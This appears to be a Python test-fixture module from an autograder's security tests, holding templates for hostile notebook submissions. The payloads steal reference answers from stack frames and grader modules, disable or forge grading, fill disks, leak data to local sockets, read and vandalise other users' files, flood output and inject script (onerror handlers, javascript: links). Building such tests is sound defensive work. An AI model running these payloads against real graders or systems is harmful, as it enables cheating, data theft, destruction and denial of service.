"""Hostile submissions: code a student who cannot solve an exercise might hand in.

Each attack is the text of a graded solution cell. It defines the graded
function so that it *tries* to score without solving the exercise: by
stealing the grader's answers, switching the grading off, forging results,
or harming the class. Its own honest fallback is wrong, so any mark it
earned would be a forged mark.

Some attacks do not try to score: they try to carry what a grading kernel can
read (the reference functions staged for notebooks 03 and 04) to a learner,
through every channel a kernel has (what it prints, an error's message and
type name, an image, a file name), to flood the grader with output, or to
run script in the browser of whoever looks at the graded notebook (with a
markdown cell of :data:`MARKDOWN`).

``ATTACKS`` maps a name to a template; :func:`solution_cell` fills in the
exercise. ``{port}``, ``{marker}`` and ``{sentinel}`` are filled in by the
test: a TCP server it listens on, a string only a victim's notebook holds,
and a folder outside the course that no grading may change.
"""

from __future__ import annotations

from html.parser import HTMLParser
from textwrap import dedent

#: What the scripting payloads set in a browser that runs them.
STOLEN = "window.stolen"
#: A markdown cell the scripting attack adds to each of its notebooks.
MARKDOWN = {"scripting": f'Look: <img src=x onerror="{STOLEN} = \'markdown\'"> '
                         f"[a link](javascript:{STOLEN}='link')"}
#: How long each flooding cell floods.
FLOOD_SECONDS = 3

#: Each exercise's signature and a wrong (but well-typed) answer.
SIGNATURES = {
    "compute_content_cost": ("a_C, a_G", "tf.reduce_sum(a_C * 0.0) + 1.0"),
    "gram_matrix": ("A", "tf.zeros((A.shape[0], A.shape[0]))"),
    "compute_layer_style_cost": ("a_S, a_G", "tf.reduce_sum(a_S * 0.0) + 1.0"),
    "compute_style_cost": ("style_features, generated_features, style_layers=STYLE_LAYERS",
                           "tf.constant(1.0)"),
    "total_cost": ("J_content, J_style, alpha=10, beta=40", "J_content + J_style"),
    "train_step": ("generated_image, optimizer, compute_cost",
                   "compute_cost(generated_image)"),
}

_FUNCTION = '''
def {name}({params}):
    stolen = steal("{name}", {arguments})
    if stolen is not None:
        return stolen
    return {wrong}
'''

ATTACKS = {
    # Walk up the interpreter's frames to the code that called the function,
    # looking for the grader's expected answer or reference function.
    "stack frames": '''
        import sys
        def steal(name, *args):
            frame = sys._getframe(1)
            while frame is not None:
                for key, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
                    if key in ("expected", "wanted", "answer", "reference", "REFERENCE"):
                        return value
                frame = frame.f_back
            return None
    ''',
    # Use grader modules that are already loaded, or import them by name.
    "sys.modules": '''
        import sys, importlib
        def steal(name, *args):
            for module_name in list(sys.modules) + ["autograder.grading.reference", "autograder.grading.cases"]:
                if "autograder" in module_name or "reference" in module_name:
                    try:
                        module = sys.modules.get(module_name) or importlib.import_module(module_name)
                    except Exception:
                        continue
                    if callable(getattr(module, name, None)):
                        return getattr(module, name)(*args)
            return None
    ''',
    # Find the instructor's source notebooks through the installed packages' paths
    # and run their solution cell.
    "source notebooks": '''
        import itertools, json, pathlib, sys, time, importlib.metadata
        import nst_utils
        def _roots():
            roots = [pathlib.Path(nst_utils.__file__).resolve().parents[1], pathlib.Path.home(),
                     pathlib.Path("/work"), pathlib.Path("/root"), pathlib.Path("/tmp")]
            for dist in importlib.metadata.distributions():
                for file in dist.files or []:
                    if file.name == "direct_url.json":
                        url = json.loads(file.read_text() or "{}").get("url", "")
                        roots.append(pathlib.Path(url.replace("file://", "")))
            roots += [pathlib.Path(p).parent for p in sys.path if p]
            return roots
        def _notebooks(root, deadline):
            for pattern in ("*.ipynb", "**/source/nst/*.ipynb"):
                for path in root.glob(pattern):
                    if time.monotonic() > deadline:
                        return
                    yield path
        def _search():
            found, deadline = {}, time.monotonic() + 15
            for root in [pathlib.Path("."), *_roots()]:
                try:
                    paths = list(itertools.islice(_notebooks(root, deadline), 50))
                except Exception:
                    continue
                for path in paths:
                    try:
                        cells = json.loads(path.read_text())["cells"]
                    except Exception:
                        continue
                    for cell in cells:
                        text = "".join(cell["source"])
                        if text.startswith("def "):
                            scope = {"tf": tf}
                            try:
                                exec(text, scope)
                            except Exception:
                                continue
                            found.update({k: v for k, v in scope.items() if callable(v)})
            return found
        _found = _search()
        def steal(name, *args):
            return _found[name](*args) if name in _found else None
    ''',
    # Switch the grading off: fetch the grader's module under a name built at run
    # time and replace its functions, and replace the public check and the harness.
    "switch grading off": '''
        import importlib, nst_utils.checks, nst_utils.grading.harness
        for module_name in ["auto" + "grader.judge", "auto" + "grader.cases", "auto" + "grader.execute"]:
            try:
                module = importlib.import_module(module_name)
                setattr(module, "judge", lambda *a, **k: None)
            except Exception:
                pass
        for attribute in dir(nst_utils.checks):
            if attribute.startswith("check_"):
                setattr(nst_utils.checks, attribute, lambda *a, **k: print("all checks passed"))
        setattr(nst_utils.grading.harness, "record", lambda *a, **k: None)
        def steal(name, *args):
            return None
    ''',
    # Pass the public check by replaying its stored answer.
    "replay the public answer": '''
        import json, pathlib, nst_utils
        _stored = json.loads((pathlib.Path(nst_utils.__file__).parent / "data"
                              / "public_checks.json").read_text())
        def steal(name, *args):
            for key, record in _stored.items():
                if isinstance(record, dict) and "expected" in record and key in name:
                    return tf.constant(record["expected"], dtype=tf.float32)
            return None
    ''',
    # Write the results file oneself, with values derived from the inputs.
    "forge the results file": '''
        import numpy as np, pathlib, nst_utils.grading.harness as _h
        def _forge(function, candidate):
            source = _h.inputs_path(function)
            with np.load(source) as data:
                forged = {key.rsplit(".", 1)[0] + ".value": np.float64(np.sum(data[key]))
                          for key in data.files}
                forged.update({key.rsplit(".", 1)[0] + ".value_kind": np.int64(0)  # a tensor
                               for key in data.files})
            target = _h.results_path(function)
            target.parent.mkdir(parents=True, exist_ok=True)
            with open(target, "wb") as handle:
                np.savez(handle, **forged)
        _h.record = _forge
        def steal(name, *args):
            return None
    ''',
    # A thread and a process that keep rewriting the results after the cell has ended,
    # and try to write outside the scratch folder.
    "background rewriter": '''
        import os, pathlib, subprocess, sys, threading, time
        _loop = """
        import os, pathlib, time
        deadline = time.time() + 20
        while time.time() < deadline:
            for target in ["_grading/results", "../_grading", "/tmp/nst-pwned", "{sentinel}"]:
                try:
                    pathlib.Path(target).mkdir(parents=True, exist_ok=True)
                    for name in ["compute_content_cost", "gram_matrix", "total_cost", "pwned"]:
                        (pathlib.Path(target) / (name + ".npz")).write_bytes(b"PK forged")
                except OSError:
                    pass
            time.sleep(0.05)
        """
        subprocess.Popen([sys.executable, "-c", _loop], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        threading.Thread(target=exec, args=(_loop,), daemon=True).start()
        def steal(name, *args):
            return None
    ''',
    # Within the submission's sandbox: wait for a later notebook's staging (which holds
    # this notebook's reference) to appear, and read the memory of the process that
    # forks the kernels, looking for a solution there.
    "the kernel factory": '''
        import json, os, pathlib, time
        _waited = []
        def _reference(name):
            for folder in ["/staging", ".", "/tmp", "/proc/1/root/staging"]:
                for path in pathlib.Path(folder).glob("**/*.ipynb"):
                    try:
                        cells = json.loads(path.read_text())["cells"]
                    except (OSError, ValueError):
                        continue
                    for cell in cells:
                        text = "".join(cell.get("source", []))
                        if "def " + name + "(" in text and "steal(" not in text:
                            scope = {}
                            exec(text, globals(), scope)
                            return scope.get(name)
            try:
                with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
                    memory.read(1)
            except OSError:
                pass
            return None
        def steal(name, *args):
            deadline = time.time() + (0 if _waited else 6)
            _waited.append(name)
            while True:
                found = _reference(name)
                if found is not None:
                    return found(*args)
                if time.time() > deadline:
                    return None
                time.sleep(0.2)
    ''',
    # Fill every writable disk.
    "fill the disk": '''
        import os
        def _fill():
            for folder in [".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")]:
                for index in range(100000):
                    try:
                        with open(os.path.join(folder, f"filler-{index}"), "wb") as handle:
                            handle.write(b"x" * 2**24)
                    except OSError:
                        break
        _fill()
        def steal(name, *args):
            return None
    ''',
    # Send something to a server on this machine (and to a local database's socket).
    "network": '''
        import socket
        def _leak():
            for family, address in [(socket.AF_INET, ("127.0.0.1", {port})),
                                    (socket.AF_UNIX, "/var/run/postgresql/.s.PGSQL.5432"),
                                    (socket.AF_UNIX, "\\0nst-abstract")]:
                try:
                    with socket.socket(family, socket.SOCK_STREAM) as s:
                        s.settimeout(2)
                        s.connect(address)
                        s.sendall(b"LEAK from a grading kernel")
                except OSError:
                    pass
        _leak()
        def steal(name, *args):
            return None
    ''',
    # Look for another student's work anywhere on the machine and show it.
    "read other students": '''
        import os, pathlib
        def _look():
            found = []
            for root in ["/", "/proc"]:
                for folder, dirs, files in os.walk(root):
                    if folder.count("/") > 7 or folder.startswith(("/sys", "/proc/sys")):
                        dirs[:] = []
                        continue
                    for name in files:
                        if name.endswith((".ipynb", ".db")):
                            try:
                                text = pathlib.Path(folder, name).read_text(errors="ignore")
                            except OSError:
                                continue
                            if "{marker}" in text:
                                found.append(text)
            print("FOUND:", found[:1])
        _look()
        def steal(name, *args):
            return None
    ''',
    # Find the course through /proc (ancestors' folders and command lines) and vandalise it.
    "vandalise the course": '''
        import os, pathlib, shutil
        def _vandalise():
            places = set()
            for entry in pathlib.Path("/proc").iterdir():
                for link in ("cwd", "root"):
                    try:
                        places.add(os.readlink(entry / link))
                    except OSError:
                        pass
                try:
                    for word in (entry / "cmdline").read_bytes().split(b"\\0"):
                        if word.startswith(b"/"):
                            places.add(word.decode(errors="ignore"))
                except OSError:
                    pass
            places.add("{sentinel}")
            for place in places:
                for path in list(pathlib.Path(place).glob("**/*"))[:2000]:
                    try:
                        if path.suffix in (".ipynb", ".db", ".json"):
                            path.write_text("destroyed")
                    except OSError:
                        pass
                try:
                    (pathlib.Path(place) / "pwned.txt").write_text("pwned")
                except OSError:
                    pass
        _vandalise()
        def steal(name, *args):
            return None
    ''',
}


ATTACKS.update({
    # Carry the staged reference functions out through every channel a kernel has:
    # printed, as an image, in a file name, in an error's message and type name.
    "leak the staged code": '''
        import base64, pathlib
        from IPython.display import display
        _staged = "".join(p.read_text() for p in sorted(pathlib.Path(".").glob("*.ipynb")))
        _packed = base64.b64encode(_staged.encode()).decode()
        print(_staged)
        display({"image/png": _packed, "text/plain": _packed}, raw=True)
        try:
            pathlib.Path(_packed[:200].replace("/", "-") + ".txt").write_text(_staged)
        except OSError:
            pass
        _Leak = type("Leak" + "".join(c for c in _packed[:200] if c.isalnum()), (ValueError,), {})
        def steal(name, *args):
            raise _Leak(_staged + _packed)
    ''',
    # Print as fast as possible: lines of 100 kB.
    "flood stdout": '''
        import time
        _end = time.time() + {flood}
        while time.time() < _end:
            print("x" * 100_000)
        def steal(name, *args):
            return None
    ''',
    # Display as fast as possible: 200 kB outputs.
    "flood display_data": '''
        import time
        from IPython.display import display
        _end = time.time() + {flood}
        while time.time() < _end:
            display({"text/plain": "y" * 100_000, "image/png": "A" * 100_000}, raw=True)
        def steal(name, *args):
            return None
    ''',
    # Outputs that would run script where the graded notebook is shown.
    "scripting": '''
        from IPython.display import HTML, Javascript, display
        display(HTML("<script>STOLEN = 'html'</script><img src=x onerror=\\"STOLEN = 'img'\\">"))
        display(Javascript("STOLEN = 'javascript'"))
        display({"text/html": "<b onmouseover=\\"STOLEN = 'bold'\\">x</b>", "text/plain": "x"},
                raw=True)
        display({"image/png": "iVBORw0KGgo=", "text/plain": "png"},
                metadata={"image/png": {"width": "1 onerror=STOLEN='width'"}}, raw=True)
        def steal(name, *args):
            return None
    '''.replace("STOLEN", STOLEN),
})


class ActiveMarkup(HTMLParser):
    """What in a page would run a payload of this bank: an event handler or a script that
    holds it, or a ``javascript:`` link (a template's own handlers and scripts hold none)."""

    def __init__(self, page: str):
        super().__init__()
        self.found, self._script = [], False
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self._script = tag == "script"
        for name, value in attrs:
            value = (value or "").strip()
            if (name.startswith("on") and "stolen" in value) or \
                    value.lower().startswith("javascript:"):
                self.found.append(f"<{tag} {name}={value[:80]}>")

    def handle_data(self, data):
        if self._script and "stolen" in data:
            self.found.append(f"<script>{data[:80]}")


def solution_cell(attack: str, exercise: str, **values) -> str:
    """The text of a graded solution cell that carries ``attack`` for ``exercise``."""
    params, wrong = SIGNATURES[exercise]
    payload = dedent(ATTACKS[attack])
    for key, value in {"flood": FLOOD_SECONDS, **values}.items():
        payload = payload.replace("{" + key + "}", str(value))
    arguments = ", ".join(p.split("=")[0].strip() for p in params.split(","))
    function = _FUNCTION.format(name=exercise, params=params, wrong=wrong, arguments=arguments)
    return payload.strip() + "\n\n" + function.strip() + "\n"


